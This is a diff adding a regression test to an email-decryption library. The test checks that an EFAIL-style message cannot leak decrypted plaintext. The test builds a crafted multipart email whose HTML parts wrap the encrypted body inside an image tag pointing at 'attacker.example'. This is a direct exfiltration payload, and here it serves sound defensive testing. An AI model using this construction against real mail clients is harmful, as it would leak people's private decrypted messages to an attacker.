@@ -157,6 +157,38 @@ describe('partial protection ("Johnny, you are fired" wrapping)', () => {
     expect(mail.headers.subject).toBe('You are fired');
   });
 
+  it("EFAIL direct exfiltration wrapping: the plaintext never lands in the attacker's HTML", async () => {
+    const encrypted = await buildEncryptedMime(content(), {
+      recipients: [bob.publicKey],
+      signingKey: aliceKey,
+    });
+    const encryptedEntity = encrypted.slice(encrypted.indexOf('Content-Type: multipart/encrypted'));
+    const eml = [
+      'From: Alice <alice@example.org>',
+      'To: bob@example.net',
+      'Subject: hi',
+      'Content-Type: multipart/mixed; boundary="efail"',
+      '',
+      '--efail',
+      'Content-Type: text/html',
+      '',
+      '<img src="http://attacker.example/?',
+      '--efail',
+      encryptedEntity.replace(/\r\n$/, ''),
+      '--efail',
+      'Content-Type: text/html',
+      '',
+      '">',
+      '--efail--',
+      '',
+    ].join('\r\n');
+    const mail = await parseEml(eml, { decryptionKeys: [bobKey], verificationKeys: [alice.publicKey] });
+    expect(mail.verdict.partial.encrypted).toBe(true);
+    expect(mail.verdict.subjectProtected).toBe(false);
+    expect(mail.html ?? '').not.toContain('numbers are attached');
+    expect(mail.text).toContain('the numbers are attached');
+  });
+
   it('flags inline armor surrounded by other text, and not a lone block', async () => {
     const armored = await encryptMessage('the real message', {
       recipients: [bob.publicKey],
